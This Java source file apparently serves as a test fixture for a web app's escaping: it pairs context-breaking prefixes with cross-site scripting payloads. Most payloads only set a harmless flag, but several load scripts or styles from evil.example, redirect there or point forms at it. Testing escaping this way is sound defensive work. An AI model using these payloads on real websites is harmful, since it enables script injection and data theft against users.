package org.quietbell.web;

import java.util.ArrayList;
import java.util.List;

/// Texts that would run a script in a page that does not show them as text: each way to begin one,
/// out of each place where it might land.
final class Payloads {
    /// Out of text, out of an attribute, out of a comment, a script, a style, a title.
    private static final List<String> OUT =
            List.of(
                    "",
                    "\">",
                    "'>",
                    "`>",
                    "\"/>",
                    "</bdi></p>",
                    "</title>",
                    "</textarea>",
                    "</script>",
                    "</style>",
                    "</noscript>",
                    "</option></select>",
                    "-->",
                    "--!>",
                    "]]>",
                    "*/",
                    "\\\">",
                    "%22%3E",
                    "&quot;&gt;",
                    "</svg>",
                    "</math>");

    private static final List<String> RUNS =
            List.of(
                    "<script>window.ran=1</script>",
                    "<ScRiPt>window.ran=1</sCrIpT>",
                    "<script src=//evil.example/x.js></script>",
                    "<script\t>window.ran=1</script >",
                    "<<script>window.ran=1//<</script>",
                    "<img src=x onerror=window.ran=1>",
                    "<img/src=`x`onerror=window.ran=1>",
                    "<image href=x onerror=window.ran=1>",
                    "<svg onload=window.ran=1>",
                    "<svg><script>window.ran=1</script></svg>",
                    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
                    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
                    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
                    "<iframe src=javascript:parent.ran=1></iframe>",
                    "<body onload=window.ran=1>",
                    "<details open ontoggle=window.ran=1>",
                    "<input autofocus onfocus=window.ran=1>",
                    "<video><source onerror=window.ran=1></video>",
                    "<audio src=x onerror=window.ran=1>",
                    "<object data=javascript:window.ran=1></object>",
                    "<embed src=javascript:window.ran=1>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>@import '//evil.example/x.css';</style>",
                    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
                    "<base href=//evil.example/>",
                    "<form action=//evil.example/><button autofocus>x</button></form>");

    private Payloads() {}

    /// All of them, each once.
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String out : OUT) {
            for (String run : RUNS) {
                all.add(out + run);
            }
        }
        return all;
    }
}
